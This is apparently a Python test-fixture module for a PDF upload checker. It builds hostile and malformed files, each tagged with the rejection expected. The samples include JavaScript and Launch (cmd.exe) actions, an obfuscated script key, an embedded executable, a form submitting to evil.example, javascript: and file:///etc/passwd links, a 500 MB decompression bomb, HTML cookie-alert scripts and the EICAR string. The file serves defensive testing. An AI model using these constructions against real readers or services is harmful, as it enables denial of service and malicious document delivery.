"""PDFs made by hand, one family after the other; nothing of this lies in the repository."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image

WORDS = b"BT /F1 18 Tf 72 720 Td (Permission of the Board of Examiners) Tj ET"


def pdf(pages: int = 1) -> Pdf:
    """A plain one, to be made worse."""
    made = Pdf.new()
    for _number in range(pages):
        page = made.add_blank_page(page_size=(595, 842))
        page.obj.Contents = made.make_stream(WORDS)
        page.obj.Resources = Dictionary(
            Font=Dictionary(
                F1=Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
            )
        )
    return made


def saved(made: Pdf, **how: object) -> bytes:
    out = io.BytesIO()
    made.save(out, deterministic_id="encryption" not in how, **how)  # type: ignore[arg-type]
    return out.getvalue()


def plain(pages: int = 1) -> bytes:
    return saved(pdf(pages))


def photo(kind: str = "JPEG", size: tuple[int, int] = (300, 200), **how: object) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 40).convert("RGB").save(out, kind, **how)
    return out.getvalue()


def huge_photo() -> bytes:
    """A small PNG whose header says that it has 81 million pixels."""
    made = bytearray(photo("PNG", (10, 10)))
    made[16:24] = (9000).to_bytes(4, "big") * 2
    made[29:33] = zlib.crc32(made[12:29]).to_bytes(4, "big")
    return bytes(made)


SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _with_root(**entries: object) -> bytes:
    made = pdf()
    for name, value in entries.items():
        made.Root[f"/{name}"] = value  # type: ignore[assignment]
    return saved(made)


def _with_link(action: Dictionary) -> bytes:
    made = pdf()
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)
    made.pages[0].obj.Annots = Array([link])
    return saved(made)


def _link_in_arrays() -> bytes:
    """The action lies in arrays within arrays: who reads dictionaries alone does not see it."""
    made = pdf()
    action = Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))
    made.Root.Extra = Array([Array([Array([1, action])])])
    return saved(made)


def _names_script() -> bytes:
    return _with_root(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), SCRIPT]))))


def _embedded() -> bytes:
    made = pdf()
    made.attachments["run.exe"] = pikepdf.AttachedFileSpec(made, b"MZ\x90", filename="run.exe")
    return saved(made)


@cache
def _bomb() -> bytes:
    """500 MB in half a megabyte: one packed megabyte, which can be repeated as it lies."""
    megabyte = b"0" * (1024 * 1024)
    packer = zlib.compressobj(9)
    start = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(megabyte) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(megabyte) + packer.flush(zlib.Z_FULL_FLUSH)
    end = packer.flush()[:-4]  # without the sum of all
    total = 1
    for _number in range(500):
        total = zlib.adler32(megabyte, total)
    packed = start + block + again * 499 + end + total.to_bytes(4, "big")
    made = pdf()
    stream = Stream(made, b"")
    stream.write(packed, filter=Name.FlateDecode, type_check=False)
    made.Root.Extra = made.make_indirect(stream)
    return saved(made, compress_streams=False)


@cache
def _many_middling() -> bytes:
    """Sixty streams of one megabyte: none is large, together they are."""
    made = pdf()
    megabyte = b"0" * (1024 * 1024)
    made.Root.Extra = Array([made.make_stream(megabyte) for _number in range(60)])
    return saved(made, recompress_flate=True)


@cache
def _many_objects() -> bytes:
    made = pdf()
    made.Root.Extra = Array([made.make_indirect(Array([1])) for _number in range(20_100)])
    return saved(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _cycle() -> bytes:
    return rewritten(
        plain(),
        b"/Type /Pages",
        b"/Type /Pages",
        objects={2: b"<</Type/Pages/Count 1/Kids[2 0 R]>>"},
    )


def _encrypted(password: str) -> bytes:
    return saved(pdf(), encryption=pikepdf.Encryption(owner="owner", user=password, R=6))


def rewritten(
    _source: bytes, _old: bytes = b"", _new: bytes = b"", *, objects: dict[int, bytes]
) -> bytes:
    """A PDF written byte by byte, whose tables are right whatever its objects say."""
    parts = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<>>>>",
        **objects,
    }
    out = b"%PDF-1.7\n"
    places = []
    for number in sorted(parts):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, parts[number])
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(parts) + 1
    return (
        out
        + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R>>\n"
        % (
            size,
            table,
            size,
        )
        + b"startxref\n%d\n%%%%EOF\n" % len(out)
    )


def by_hand(**objects: bytes) -> bytes:
    """The same, with objects named `o4=…`."""
    return rewritten(b"", objects={int(name[1:]): body for name, body in objects.items()})


HTML = b"<html><script>alert(document.cookie)</script></html>"

HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "script": (lambda: _with_link(SCRIPT), "active"),
    "script when opened": (lambda: _with_root(OpenAction=SCRIPT), "active"),
    "script by another name": (
        lambda: by_hand(o1=b"<</Type/Catalog/Pages 2 0 R/#4a#53 (app.alert(1))>>"),
        "active",
    ),
    "script among the names": (_names_script, "active"),
    "launch when a page opens": (
        lambda: by_hand(
            o3=b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/Launch/F(cmd.exe)>>>>>>"
        ),
        "active",
    ),
    "launch": (lambda: _with_link(Dictionary(S=Name.Launch, F=String("cmd.exe"))), "active"),
    "go to another file": (
        lambda: _with_link(Dictionary(S=Name.GoToR, F=String("//host/share/a.pdf"))),
        "active",
    ),
    "embedded program": (_embedded, "active"),
    "XFA": (
        lambda: _with_root(AcroForm=Dictionary(Fields=Array([]), XFA=String("<xdp/>"))),
        "active",
    ),
    "form that sends": (
        lambda: _with_link(Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))),
        "active",
    ),
    "link with a script": (
        lambda: _with_link(Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))),
        "active",
    ),
    "link with a script in arrays": (_link_in_arrays, "active"),
    "link to a file": (
        lambda: _with_link(Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
        "active",
    ),
    "bomb": (_bomb, "too_complex"),
    "many middling streams": (_many_middling, "too_complex"),
    "many objects": (_many_objects, "too_complex"),
    "huge picture": (
        lambda: by_hand(
            o4=b"<</Subtype/Image/Width 90000/Height 90000/Length 1>>\nstream\n0\nendstream"
        ),
        "too_complex",
    ),
    "20 000 pages": (
        lambda: by_hand(o2=b"<</Type/Pages/Count 20000/Kids[" + b"3 0 R " * 20_000 + b"]>>"),
        "too_many_pages",
    ),
    "41 pages": (lambda: plain(41), "too_many_pages"),
    "HTML before it": (lambda: HTML + plain(), "not_pdf"),
    "HTML after it": (lambda: plain() + HTML, "damaged"),
    "locked": (lambda: _encrypted("secret"), "encrypted"),
    "locked against change": (lambda: _encrypted(""), "encrypted"),
    "pages in a circle": (_cycle, "damaged"),
    "deep nesting": (
        lambda: by_hand(o4=b"[" * 200_000 + b"]" * 200_000),
        "damaged",
    ),
    "no pages": (lambda: by_hand(o2=b"<</Type/Pages/Count 0/Kids[]>>"), "damaged"),
    "cut off": (lambda: plain()[:-40], "damaged"),
    "wrong table": (lambda: by_hand().replace(b"startxref\n", b"startxref\n9"), "damaged"),
    "wrong length": (
        lambda: by_hand(o4=b"<</Length 900>>\nstream\n0\nendstream"),
        "damaged",
    ),
    "long tail": (lambda: plain() + b"\n" * 10_000, "damaged"),
}

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def _zip() -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", "<w/>")
    return out.getvalue()


NO_PDF: dict[str, Callable[[], bytes]] = {
    "zip": _zip,
    "HTML": lambda: HTML,
    "SVG": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "EICAR": lambda: EICAR,
    "GIF": lambda: photo("GIF"),
    "HEIC": lambda: b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 100,
    "header alone": lambda: b"%PDF-",
    "noise": lambda: bytes(range(256)) * 20,
}
